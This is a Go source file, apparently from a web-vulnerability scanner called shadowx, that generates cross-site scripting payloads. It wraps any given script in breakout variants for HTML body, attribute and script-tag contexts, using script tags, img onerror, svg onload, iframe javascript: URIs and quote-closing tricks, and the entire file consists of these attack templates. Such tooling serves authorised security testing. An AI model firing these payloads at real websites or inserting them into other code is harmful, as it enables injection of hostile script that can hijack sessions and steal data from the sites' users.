package payloads

import (
	"fmt"

	"github.com/Serdar715/shadowx/internal/config"
)

// CustomVariants wraps an arbitrary payload in breakout variants suited to
// the context it is expected to land in.
func CustomVariants(kind config.ContextKind, payload string) []string {
	switch kind {
	case config.ContextScriptTag:
		return breakScript(payload)
	case config.ContextHTMLAttribute:
		return breakAttribute(payload)
	case config.ContextHTMLBody:
		return []string{
			fmt.Sprintf("<script>%s</script>", payload),
			fmt.Sprintf(`<img src=x onerror="%s">`, payload),
			fmt.Sprintf(`<svg onload="%s">`, payload),
			fmt.Sprintf(`<iframe src="javascript:%s">`, payload),
		}
	}

	return []string{
		fmt.Sprintf("<script>%s</script>", payload),
		fmt.Sprintf(`"><script>%s</script>`, payload),
		fmt.Sprintf(`'""><script>%s</script>`, payload),
		fmt.Sprintf(`<img src=x onerror="%s">`, payload),
	}
}

// breakAttribute closes the attribute value, then either opens a new tag or
// adds an event handler.
func breakAttribute(payload string) []string {
	return []string{
		fmt.Sprintf(`"><script>%s</script><div dummy="`, payload),
		fmt.Sprintf(`'""><script>%s</script><div dummy="`, payload),
		fmt.Sprintf(`" onmouseover="%s" dummy="`, payload),
		fmt.Sprintf(`' onmouseover='%s' dummy='`, payload),
	}
}

// breakScript terminates the current string or statement and keeps the
// trailing code parseable.
func breakScript(payload string) []string {
	return []string{
		fmt.Sprintf(`";%s;var dummy="`, payload),
		fmt.Sprintf(`';%s;var dummy='`, payload),
		fmt.Sprintf(`/**/;%s/**/;`, payload),
		fmt.Sprintf(`</script><script>%s</script><script>var dummy=`, payload),
	}
}
